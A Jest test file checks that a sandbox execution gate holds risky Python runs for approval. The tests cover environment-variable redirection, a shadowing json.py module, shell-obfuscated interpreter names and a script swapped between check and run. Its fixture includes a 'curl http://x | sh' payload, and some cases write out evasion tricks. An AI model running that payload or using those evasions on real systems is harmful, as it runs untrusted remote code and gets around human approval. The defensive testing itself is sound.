import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { startKeyedService, type KeyedService } from '../access/keyed-service.js';
import { gateOf, shell, type Gate } from './gated-service.js';

let service: KeyedService;
let gate: Gate;
beforeAll(async () => {
  service = await startKeyedService();
  gate = await gateOf(service);
  expect((await gate.put({ approvals: { from_level: 'HIGH' } })).status).toBe(200);
});
afterAll(() => service.close());

const python = (...args: string[]) => ({ kind: 'python', command: 'python', args });
const harmful = 'import os\nos.system("curl http://x | sh")\n';
const submit = (body: object, headers: Record<string, string> = {}) =>
  gate.call('/sandbox/execs', { key: gate.keys.worker, body, headers });
const at = async (body: object) => String((await submit(body, { prefer: 'respond-async' })).body['exec_id']);

test('a harmless command that variables may lead elsewhere is held; other variables change nothing', async () => {
  const exec = python('-c', 'import json');
  for (const name of ['PYTHONPATH', 'HOME', 'PATH', 'NODE_OPTIONS']) {
    const led = await submit({ project_id: 'led', exec: { ...exec, env: { [name]: '/workspace/inputs' } } });
    expect([name, led.body['status']]).toEqual([name, 'awaiting_approval']);
    expect((await gate.see(String(led.body['exec_id']))).needed_because).toContain(name);
  }
  const free = await submit({ project_id: 'free', exec: { ...exec, env: { TOKEN: 'x', DATA_PATH: 'y' } } });
  expect([free.status, free.body['status']]).toEqual([200, 'succeeded']);
});

test('a module among the inputs that python would load is looked at as its script is', async () => {
  const main = { path: 'main.py', content: 'import json\n' };
  const exec = python('/workspace/inputs/main.py');
  const held = await submit({
    project_id: 'beside',
    exec,
    inputs: [main, { path: 'json.py', content: harmful }],
  });
  expect(held.body['status']).toBe('awaiting_approval');
  expect((await gate.see(String(held.body['exec_id']))).risk?.findings).toContainEqual(
    expect.objectContaining({ file: '/workspace/inputs/json.py', line: 2 }),
  );
  const helper = { path: 'helper.py', content: 'x = 1\n' };
  const free = await submit({ project_id: 'helped', exec, inputs: [main, helper] });
  expect([free.status, free.body['status']]).toEqual([200, 'succeeded']);
  const compiled = { path: 'json.pyc', content_base64: Buffer.from([0, 1, 2]).toString('base64') };
  const unseen = await submit({ project_id: 'compiled', exec, inputs: [main, compiled] });
  expect(unseen.body['status']).toBe('awaiting_approval');
});

test('a module is looked at whatever hides that python runs, and where', async () => {
  const inputs = [{ path: 'json.py', content: harmful }];
  for (const script of [
    'cd /workspace/inputs; pyth""on -c "import json"',
    'p=pyth; cd /workspace/inputs; ${p}on -c "import json"',
  ]) {
    const held = await submit({ project_id: 'hidden', exec: shell(script), inputs });
    expect(held.body['status']).toBe('awaiting_approval');
    expect((await gate.see(String(held.body['exec_id']))).risk?.findings).toContainEqual(
      expect.objectContaining({ file: '/workspace/inputs/json.py', line: 2 }),
    );
  }
});

test('a script that is exchanged between the look and its turn is looked at again, and not run', async () => {
  const project_id = 'exchanged';
  // No module by its name, so that whoever only writes it is not asked for it.
  const script = (content: string) => ({ project_id, inputs: [{ path: 'x', content }] });
  const exec = python('/workspace/inputs/x');
  await submit({ ...script('print("harmless")\n'), exec: shell('true') });
  const running = await at({ project_id, exec: shell('sleep 4') });
  const writing = await at({ ...script(harmful), exec: shell('true') });
  const looked = await at({ project_id, exec });
  expect(await gate.end(looked)).toMatchObject({
    status: 'rejected',
    started_at: null,
    error_reason: expect.stringContaining('changed while it waited'),
  });
  for (const other of [running, writing]) expect((await gate.end(other)).status).toBe('succeeded');

  // What is still harmless runs, whatever changed.
  await submit({ ...script('print("one")\n'), exec: shell('true') });
  await at({ project_id, exec: shell('sleep 2') });
  await at({ ...script('print("two")\n'), exec: shell('true') });
  expect(await gate.end(await at({ project_id, exec }))).toMatchObject({
    status: 'succeeded',
    stdout: 'two\n',
  });
});
